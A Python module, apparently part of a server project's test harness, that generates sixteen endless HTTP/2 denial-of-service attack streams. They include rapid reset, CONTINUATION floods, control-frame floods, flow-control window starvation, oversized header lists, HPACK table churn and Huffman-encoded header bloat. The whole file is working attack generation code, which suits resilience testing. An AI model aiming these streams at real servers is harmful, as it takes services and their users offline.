"""The frames that hostile clients send over HTTP/2, without end, after the preface."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, repeat

from addon.origin.http2 import frames
from addon.origin.http2.faults import ErrorCode
from addon.origin.http2.header_block import encode
from addon.origin.http2.settings import INITIAL_WINDOW_SIZE

LARGEST_WINDOW = 2**31 - 1

HUFFMAN_ZEROS = b"\x00\x01a\xff\xe1\xd3\x03" + bytes(60_000)
"""A field whose value is 60,000 bytes in the Huffman code."""

Pieces = Iterator[bytes]


@dataclass(frozen=True, slots=True)
class Requests:
    """Makes the requests of a hostile client."""

    authority: str

    def block(self, path: str, method: str = "GET") -> bytes:
        """Return the header block of a request."""
        pseudo = [(":method", method), (":scheme", "http"), (":authority", self.authority), (":path", path)]
        return encode(pseudo)

    def get(self, stream: int, path: str, more: bytes = b"") -> bytes:
        """Return a whole request, with `more` after its header block."""
        return frames.header_frames(stream, self.block(path) + more, end_stream=True)

    def begun(self, stream: int, path: str) -> bytes:
        """Return a request whose content is to follow."""
        return frames.header_frames(stream, self.block(path, "POST"), end_stream=False)


def _streams() -> Iterator[int]:
    return count(1, 2)


def _rapid_reset(requests: Requests) -> Pieces:
    for stream in _streams():
        yield requests.get(stream, f"/no-store/{stream}") + frames.reset_frame(stream, ErrorCode.CANCEL)


def _made_you_reset(requests: Requests) -> Pieces:
    for stream in _streams():
        yield requests.get(stream, f"/no-store/{stream}") + frames.window_frame(stream, 0)


def _continuations(requests: Requests) -> Pieces:
    yield frames.frame(frames.HEADERS, frames.END_STREAM, 1, requests.block("/fresh/1k"))
    yield from repeat(frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 800))


def _flood(frame: bytes) -> Callable[[Requests], Pieces]:
    return lambda _: repeat(frame * 100)


def _empty_data(requests: Requests) -> Pieces:
    yield requests.begun(1, "/no-store/1")
    yield from repeat(frames.frame(frames.DATA, 0, 1) * 100)


def _padding(requests: Requests) -> Pieces:
    yield requests.begun(1, "/no-store/1")
    yield from repeat(frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255)))


def _many_large(requests: Requests) -> bytes:
    return b"".join([requests.get(stream, "/fresh/10m") for stream in range(1, 201, 2)])


def _zero_window(requests: Requests) -> Pieces:
    yield frames.settings_frame({INITIAL_WINDOW_SIZE: 0}) + _many_large(requests)


def _tiny_window(requests: Requests) -> Pieces:
    yield frames.settings_frame({INITIAL_WINDOW_SIZE: 1}) + _many_large(requests)
    for stream in range(1, 201, 2):
        yield frames.window_frame(stream, 1)


def _never_reads(requests: Requests) -> Pieces:
    yield frames.settings_frame({INITIAL_WINDOW_SIZE: LARGEST_WINDOW}) + frames.window_frame(0, LARGEST_WINDOW - 65_535)
    yield _many_large(requests)


def _large_list(requests: Requests) -> Pieces:
    field = b"\x40\x01x\x7f\xbd\x1d" + b"y" * 3900  # 60 references to it are 234 KB
    for stream in _streams():
        yield requests.get(stream, "/fresh/1k", field + b"\xbe" * 60)


def _table_churn(requests: Requests) -> Pieces:
    for stream in _streams():
        fields = [b"\x40\x04%04d\x04%04d" % (stream % 10_000, number) for number in range(150)]
        yield requests.get(stream, "/fresh/1k", b"".join(fields))


def _huffman(requests: Requests) -> Pieces:
    for stream in _streams():
        yield frames.header_frames(stream, requests.block("/fresh/1k") + HUFFMAN_ZEROS, end_stream=True)


@dataclass(frozen=True, slots=True)
class Http2Attack:
    """An attack of one client."""

    name: str
    pieces: Callable[[Requests], Pieces]
    """Returns what the client sends."""


ATTACKS = (
    Http2Attack("rapid reset", _rapid_reset),
    Http2Attack("requests that the server has to reset", _made_you_reset),
    Http2Attack("CONTINUATION frames without end", _continuations),
    Http2Attack("SETTINGS frames", _flood(frames.settings_frame({INITIAL_WINDOW_SIZE: 65_535}))),
    Http2Attack("PING frames", _flood(frames.frame(frames.PING, 0, 0, bytes(8)))),
    Http2Attack("WINDOW_UPDATE frames", _flood(frames.window_frame(0, 1))),
    Http2Attack("PRIORITY frames", _flood(frames.frame(frames.PRIORITY, 0, 1, bytes(5)))),
    Http2Attack("frames of an unknown type", _flood(frames.frame(0xFA, 0, 0))),
    Http2Attack("empty DATA frames", _empty_data),
    Http2Attack("DATA frames of padding", _padding),
    Http2Attack("a window of nothing, 100 large responses", _zero_window),
    Http2Attack("a window of one byte, 100 large responses", _tiny_window),
    Http2Attack("100 large responses that are not read", _never_reads),
    Http2Attack("header lists of 234 KB", _large_list),
    Http2Attack("churn of the HPACK table", _table_churn),
    Http2Attack("header blocks of 60 KB in the Huffman code", _huffman),
)
